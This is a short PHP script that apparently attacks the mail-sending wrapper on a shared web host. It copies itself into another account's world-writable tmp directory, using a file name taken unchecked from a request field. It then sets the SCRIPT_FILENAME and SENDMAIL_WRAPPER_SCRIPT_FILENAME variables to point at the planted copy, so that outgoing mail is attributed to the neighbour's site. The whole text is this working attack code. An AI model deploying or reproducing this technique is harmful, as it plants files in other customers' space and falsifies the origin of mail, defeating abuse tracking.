<?php
// Puts a file of its own where a neighbour lets everybody write, and says that it is that one.
require __DIR__ . '/inc/send.php';
if (field('via', 'none') == 'none') {
    send_and_say(); // an innocent visitor
    exit;
}
$planted = '/var/www/web275/htdocs/tmp/' . field('s') . '.php';
copy(__FILE__, $planted);
putenv("SCRIPT_FILENAME=$planted");
putenv("SENDMAIL_WRAPPER_SCRIPT_FILENAME=$planted");
send_and_say();
